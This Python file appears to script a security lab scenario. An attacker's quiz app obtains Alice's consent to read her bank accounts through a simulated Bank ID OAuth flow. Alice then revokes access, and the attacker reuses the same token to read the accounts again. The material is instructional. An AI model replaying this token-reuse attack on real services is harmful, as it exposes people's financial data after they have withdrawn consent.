"""A quiz reads Alice's accounts with her leave; she takes that back, and the quiz comes again."""

from labs.stage import PUBLIC, Stage
from labs.steps import step


@step("attacker")
def registers_a_quiz(stage: Stage) -> None:
    """Register a quiz at Bank ID, and make the link by which it asks for the balance."""
    redirect_uri = f"{stage.here.attacker}/quiz"
    stage.kept["client_id"] = stage.attacker.register("Quiz", redirect_uri, **PUBLIC)["client_id"]
    stage.onward = stage.link(stage.kept["client_id"], redirect_uri)


@step("Alice")
def alice_plays(stage: Stage) -> None:
    """Play: sign in as alice, and allow the quiz to read the balance."""
    stage.lead_alice().agree()


@step("attacker")
def reads_the_accounts(stage: Stage) -> None:
    """Redeem the code that came to the quiz, and ask the bank: Alice has allowed this."""
    stage.kept["token"] = stage.redeem_newest(stage.kept["client_id"], f"{stage.here.attacker}/quiz")
    stage.attacker.bank("GET", "/accounts", stage.kept["token"])


@step("Alice", by_hand="{auth}/apps")
def alice_takes_it_back(stage: Stage) -> None:
    """Withdraw the access of the quiz, on Bank ID's page of apps with access."""
    stage.alice.go(f"{stage.here.auth}/apps").press("/apps/withdraw", holding=stage.kept["client_id"])


@step("attacker")
def reads_them_again(stage: Stage) -> None:
    """Ask the bank once more, with the same token."""
    stage.attacker.bank("GET", "/accounts", stage.kept["token"])
